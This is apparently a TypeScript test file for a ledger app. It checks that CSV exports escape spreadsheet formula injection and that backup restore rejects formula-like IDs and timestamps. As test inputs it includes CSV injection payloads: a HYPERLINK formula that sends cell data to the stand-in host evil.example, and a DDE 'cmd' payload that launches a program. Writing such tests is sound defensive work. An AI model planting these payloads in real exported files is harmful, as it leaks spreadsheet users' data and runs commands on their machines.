/**
 * CSV injection: no exported cell, of any column of either export, is one a spreadsheet would
 * evaluate, whatever path its text came in by; and a restore refuses fields that are not of their kind.
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from '@/lib/ledger/spreadsheet-cell';
import type { Document } from '@/lib/model/document';
import type { MatchException } from '@/lib/model/exception';
import { makeLedger } from './helpers';

/**
 * The oracle, written from OWASP's rule rather than from the code under test: a cell is evaluated when,
 * after any leading blanks, it starts with = + - @ (or their full-width or small forms), or when it
 * starts with a tab or a carriage return — unless the whole cell is a plain number.
 */
const TRIGGERS = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦']);
function evaluates(cell: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  if (cell.startsWith('\t') || cell.startsWith('\r')) return true;
  const first = cell.replace(/^[\s\u00a0\u3000]+/, '')[0];
  return first !== undefined && TRIGGERS.has(first);
}

/** Strings a hostile page or file would try: formula starts, blanks before them, and anything at all. */
const hostile = fc.oneof(
  fc.string(),
  fc
    .tuple(fc.constantFrom('', ' ', '\n', '\u3000', '\u00a0 '), fc.constantFrom(...TRIGGERS, '\t', '\r'), fc.string())
    .map(([lead, trigger, rest]) => lead + trigger + rest),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A2,"Id")',
    "=cmd|' /C calc'!A0",
    '+cmd|x',
    '=1+1',
    '-2+3',
    '@SUM(A1)',
  ),
);

function documentWith(s: string[], n: number): Document {
  const at = (i: number) => s[i % s.length] ?? '';
  return {
    id: at(0) || `d${n}`,
    kind: n % 2 === 0 ? 'po' : 'invoice',
    number: at(1) || 'x',
    key: at(2) || 'K',
    looseKey: at(3),
    vendor: at(4),
    vendorKey: at(5),
    date: at(6),
    dueDate: at(7),
    total: { minor: 12345 * (n % 3 === 0 ? -1 : 1), currency: 'EUR' },
    lines: [],
    poKeys: n % 2 === 0 ? [] : [at(8) || 'P', at(9)],
    status: 'open',
    sightings: [],
    confirmed: [],
    conflicts: [],
    urls: [],
    createdAt: at(10),
    updatedAt: at(11),
  };
}

function exceptionWith(s: string[], n: number, docIds: string[]): MatchException {
  const at = (i: number) => s[(i + 3) % s.length] ?? '';
  return {
    id: at(0) || `e${n}`,
    type: 'over_billed',
    severity: 'high',
    docIds: [...docIds, at(1)],
    poKey: at(2),
    message: at(3),
    openedAt: at(4),
    resolvedAt: at(5),
    resolution: { kind: 'accepted', note: at(6), by: at(7) },
    state: n % 2 === 0 ? 'open' : 'resolved',
  };
}

describe('spreadsheetCell', () => {
  it('leaves numbers and ordinary text as they are', () => {
    for (const v of ['1000.00', '-100.00', '0', '4500012345', 'Acme GmbH', 'INV-2291', 'a=b', 'x-1']) {
      expect(spreadsheetCell(v)).toBe(v);
    }
    expect(spreadsheetCell(undefined)).toBe('');
  });

  it('quotes every formula start, also full-width and after blanks', () => {
    for (const v of ['=1+1', '+1', '-1+2', '@A1', '\t=1', '\r=1', ' =1', '\n=1', '＝1', '＋1', '－1', '＠A1', '-']) {
      expect(spreadsheetCell(v)).toBe(`'${v}`);
    }
  });
});

describe('CSV export escapes every cell, whatever path the data came in by', () => {
  it('no cell of either export would be evaluated, and each reads back as the stored text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 12, maxLength: 24 }), async (strings) => {
        const { db, ledger } = makeLedger();
        // Written straight to the tables: the export must not rely on any import or restore having checked them.
        const docs = [0, 1, 2, 3].map((n) => documentWith(strings.slice(n), n)).filter(uniqueIds());
        await db.documents.bulkPut(docs);
        const exceptions = [0, 1]
          .map((n) =>
            exceptionWith(
              strings.slice(n),
              n,
              docs.map((d) => d.id),
            ),
          )
          .filter(uniqueIds());
        await db.exceptions.bulkPut(exceptions);
        for (const csv of [await ledger.exportDocumentsCsv(), await ledger.exportExceptionsCsv()]) {
          const rows = Papa.parse<string[]>(csv, { newline: '\r\n' }).data.slice(1);
          for (const row of rows) for (const cell of row) expect(evaluates(cell), JSON.stringify(cell)).toBe(false);
        }
        const rows = Papa.parse<Record<string, string>>(await ledger.exportDocumentsCsv(), {
          header: true,
          newline: '\r\n',
        }).data;
        for (const d of docs) {
          const row = rows.find((r) => r.Id === d.id || r.Id === `'${d.id}`);
          expect(row).toBeDefined();
          for (const [column, value] of [
            ['Number', d.number],
            ['Vendor', d.vendor ?? ''],
            ['Key', d.key],
            ['Date', d.date ?? ''],
          ] as const) {
            expect([value, `'${value}`]).toContain(row?.[column]);
          }
        }
        db.close();
      }),
      { numRuns: 40 },
    );
  });
});

function uniqueIds() {
  const seen = new Set<string>();
  return (x: { id: string }) => !seen.has(x.id) && !!seen.add(x.id);
}

/** A parsed backup as the spoilers below edit it. */
type RawBackup = { documents: Record<string, unknown>[]; exceptions: unknown[] };

describe('restore refuses fields that are not of their kind', () => {
  async function backupOf() {
    const { ledger, db } = makeLedger();
    await ledger.importCsv('PO Number,Vendor,Amount,Currency\n100,Acme,1000.00,EUR\n', undefined, {
      fileName: 'pos.csv',
    });
    return { ledger, db, backup: JSON.parse(await ledger.backupJson()) as RawBackup };
  }

  it.each([
    [
      'a document id',
      (b: RawBackup) => (b.documents[0]!.id = '=HYPERLINK("http://evil.example/?"&A2,"Id")'),
      /documents\.0\.id/,
    ],
    ['a PO key', (b: RawBackup) => (b.documents[0]!.poKeys = ["=cmd|' /C calc'!A0"]), /documents\.0\.poKeys\.0/],
    ['a document key', (b: RawBackup) => (b.documents[0]!.key = '+cmd|x'), /documents\.0\.key/],
    ['a creation time', (b: RawBackup) => (b.documents[0]!.createdAt = '=1+1'), /documents\.0\.createdAt/],
    [
      'an exception id',
      (b: RawBackup) =>
        b.exceptions.push({ ...exceptionWith(['x'], 0, []), id: '=1+1', openedAt: new Date().toISOString() }),
      /exceptions\.0\.id/,
    ],
    [
      'an exception opened time',
      (b: RawBackup) =>
        b.exceptions.push({ ...exceptionWith(['x'], 0, []), id: 'e1', docIds: [], poKey: '100', openedAt: '@SUM(A1)' }),
      /exceptions\.0\.openedAt/,
    ],
  ])('refuses %s that is not of its kind, with a sentence, and changes nothing', async (_what, spoil, where) => {
    const { ledger, db, backup } = await backupOf();
    const before = await db.documents.toArray();
    spoil(backup);
    await expect(ledger.restoreJson(JSON.stringify(backup))).rejects.toThrow(where);
    await expect(ledger.restoreJson(JSON.stringify(backup))).rejects.toThrow(
      /^The backup is damaged .*Nothing was changed\.$/,
    );
    expect(await db.documents.toArray()).toEqual(before);
    expect(await db.exceptions.count()).toBe(0);
  });

  it('restores formula-like free text (numbers, vendors, notes) and exports it quoted', async () => {
    const { ledger, db, backup } = await backupOf();
    backup.documents[0]!.vendor = '=HYPERLINK("http://evil.example/?"&A2,"Id")';
    backup.documents[0]!.number = '@SUM(A1)';
    await ledger.restoreJson(JSON.stringify(backup));
    const rows = Papa.parse<Record<string, string>>(await ledger.exportDocumentsCsv(), { header: true }).data;
    expect(rows[0]).toMatchObject({ Vendor: `'=HYPERLINK("http://evil.example/?"&A2,"Id")`, Number: "'@SUM(A1)" });
    expect(await db.documents.count()).toBe(1);
  });
});
